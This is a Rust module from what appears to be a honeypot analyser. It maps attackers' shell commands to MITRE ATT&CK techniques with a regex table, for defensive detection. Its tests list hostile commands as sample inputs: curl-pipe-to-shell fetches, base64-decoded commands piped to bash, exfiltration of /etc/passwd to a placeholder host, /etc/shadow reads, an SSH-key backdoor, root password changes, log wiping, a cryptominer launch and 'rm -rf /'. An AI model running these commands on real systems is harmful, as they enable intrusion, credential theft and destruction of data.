//! MITRE ATT&CK technique rules over command lines.
//!
//! The table maps what bots type to techniques, after `../shared/design/analyst.md` §4 (itself
//! built from MiragePot's `ttp_detector.py` and jaalmaa's threat-dashboard signatures): one
//! regular expression over the [normalised](crate::normalize) line per rule, with the
//! technique, its tactic and a confidence. The rules are data, `data/attack.tsv`, in the
//! [table format](crate::table). All rules run as one [`regex::RegexSet`]. Rules
//! that need more than a line (a login, a download, a forward request, a token read) live in
//! [`crate::session`], which also reports each technique once per session.

use miragepot_event::Confidence;
use regex::RegexSet;

use crate::DetectError;
use crate::stage::Tactic;
use crate::table;

/// One technique rule.
#[derive(Debug, Clone)]
pub struct TechniqueRule {
    /// Stable rule id (`T1105.fetch`).
    pub id: String,
    /// Technique id.
    pub technique: String,
    /// Technique name.
    pub name: String,
    /// Its tactic.
    pub tactic: Tactic,
    /// How sure the rule is.
    pub confidence: Confidence,
}

/// The built-in table (`data/attack.tsv`): rule id, technique, name, tactic, confidence,
/// pattern.
const TABLE: &str = include_str!("../data/attack.tsv");

/// The compiled technique table.
#[derive(Debug, Clone)]
pub struct AttackTable {
    set: RegexSet,
    rules: Vec<TechniqueRule>,
}

impl AttackTable {
    /// The built-in table.
    pub fn builtin() -> Result<AttackTable, DetectError> {
        let rows = table::rows(TABLE, 6, "attack.tsv")?;
        let mut rules = Vec::with_capacity(rows.len());
        let mut patterns = Vec::with_capacity(rows.len());
        for row in rows {
            let [id, technique, name, tactic, confidence, pattern] = row.as_slice() else {
                continue;
            };
            let tactic = Tactic::from_name(tactic).ok_or_else(|| {
                DetectError::Table(format!("rule {id}: unknown tactic {tactic:?}"))
            })?;
            let confidence = match confidence.as_str() {
                "low" => Confidence::Low,
                "medium" => Confidence::Medium,
                "high" => Confidence::High,
                other => {
                    return Err(DetectError::Table(format!(
                        "rule {id}: unknown confidence {other:?}"
                    )));
                }
            };
            patterns.push(table::pattern(id, pattern)?);
            rules.push(TechniqueRule {
                id: id.clone(),
                technique: technique.clone(),
                name: name.clone(),
                tactic,
                confidence,
            });
        }
        let set = RegexSet::new(&patterns).map_err(|source| DetectError::Pattern {
            id: "attack table".into(),
            source,
        })?;
        Ok(AttackTable { set, rules })
    }

    /// The rules a [normalised](crate::normalize) line matches, in table order.
    pub fn matches<'a>(&'a self, normalized: &str) -> impl Iterator<Item = &'a TechniqueRule> {
        self.set
            .matches(normalized)
            .into_iter()
            .filter_map(|i| self.rules.get(i))
    }

    /// Number of rules.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// Whether the table is empty.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    /// Every technique id the table can report, sorted and deduplicated.
    pub fn techniques(&self) -> Vec<&str> {
        let mut v: Vec<_> = self.rules.iter().map(|r| r.technique.as_str()).collect();
        v.sort_unstable();
        v.dedup();
        v
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::normalize;

    fn techniques(line: &str) -> Vec<String> {
        let t = AttackTable::builtin().unwrap();
        let mut v: Vec<_> = t
            .matches(&normalize(line).text)
            .map(|r| r.technique.clone())
            .collect();
        v.dedup();
        v
    }

    #[test]
    fn corpus_lines_map_to_their_techniques() {
        let cases: &[(&str, &[&str])] = &[
            ("uname -a", &["T1082"]),
            ("cat /proc/cpuinfo | grep name | wc -l", &["T1082"]),
            ("whoami", &["T1033"]),
            ("cat /etc/passwd", &["T1087.001"]),
            ("ps aux", &["T1057"]),
            ("ifconfig", &["T1016"]),
            ("ip a", &["T1016"]),
            ("netstat -tunlp", &["T1049"]),
            ("ls -la /", &["T1083"]),
            ("dmesg | grep -i virtual", &["T1497.001"]),
            ("cat /etc/shadow", &["T1003.008"]),
            ("cd /tmp; wget http://203.0.113.5/x.sh", &["T1105"]),
            ("curl -s http://x/y | sh", &["T1059.004", "T1105"]),
            (
                "echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | bash",
                &["T1087.001", "T1059.004", "T1140"],
            ),
            ("chmod +x x.sh", &["T1222.002"]),
            (
                "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3 mdrfckr\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh",
                &["T1222.002", "T1098.004"],
            ),
            (
                "(crontab -l; echo \"* * * * * /tmp/x\") | crontab -",
                &["T1053.003"],
            ),
            ("useradd -m backup", &["T1136.001"]),
            ("echo \"root:Xk3pass\" | chpasswd", &["T1098", "T1531"]),
            ("sudo -l", &["T1548.003"]),
            ("find / -perm -4000 2>/dev/null", &["T1083", "T1548.001"]),
            ("history -c", &["T1070.003"]),
            ("rm -rf /var/log/*", &["T1070.002"]),
            ("rm -rf /tmp/x.sh", &["T1070.004"]),
            ("iptables -F", &["T1562.004"]),
            ("setenforce 0", &["T1562.001"]),
            ("mkdir /tmp/.X25-unix", &["T1564.001"]),
            ("cd /dev/shm/.x; ./run", &["T1564.001"]),
            ("pkill -f xmrig", &["T1489", "T1496"]),
            (
                "./xmrig --donate-level 1 -o stratum+tcp://pool:3333",
                &["T1496"],
            ),
            ("ssh root@198.51.100.3", &["T1021.004"]),
            ("tar czf /tmp/h.tgz /home", &["T1560.001"]),
            (
                "curl -F f=@/etc/passwd http://x",
                &["T1087.001", "T1105", "T1048"],
            ),
            ("rm -rf / --no-preserve-root", &["T1485"]),
            ("/bin/busybox ECCHI", &["T1584.005"]),
            ("python3 -c 'print(1)'", &["T1059.006"]),
        ];
        for (line, want) in cases {
            let got = techniques(line);
            for w in *want {
                assert!(got.iter().any(|g| g == w), "{line}: want {w}, got {got:?}");
            }
        }
    }

    #[test]
    fn plain_lines_give_nothing() {
        for line in [
            "echo hello",
            "cat README.md",
            "exit",
            "export TERM=xterm",
            "cat ~/.profile",
        ] {
            assert!(
                techniques(line).is_empty(),
                "{line}: {:?}",
                techniques(line)
            );
        }
    }

    #[test]
    fn the_issue_techniques_are_covered() {
        let t = AttackTable::builtin().unwrap();
        let have = t.techniques();
        for want in [
            "T1059.004",
            "T1105",
            "T1098.004",
            "T1053.003",
            "T1082",
            "T1083",
            "T1033",
            "T1016",
            "T1049",
            "T1057",
            "T1070.003",
            "T1070.004",
            "T1222.002",
            "T1496",
            "T1562.001",
            "T1564.001",
            "T1497.001",
            "T1090",
        ] {
            assert!(have.contains(&want), "{want} missing");
        }
    }
}
